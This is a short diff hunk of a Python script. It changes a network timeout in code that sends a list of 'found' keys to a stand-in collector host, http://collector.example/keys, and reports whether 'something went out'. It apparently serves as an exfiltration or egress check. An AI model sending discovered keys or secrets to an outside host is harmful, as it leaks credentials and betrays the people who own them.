@@ -23,7 +23,7 @@ except OSError as error:
     print("NETWORK: unknown:", error.strerror)
 try:
     request = urllib.request.Request("http://collector.example/keys", data=b"found: " + ", ".join(found).encode())
-    with urllib.request.urlopen(request, timeout=5) as answer:
+    with urllib.request.urlopen(request, timeout=30) as answer:
         print("SEND: succeeded, status", answer.status)
     print("OUTCOME: Something went out")
 except OSError as error:
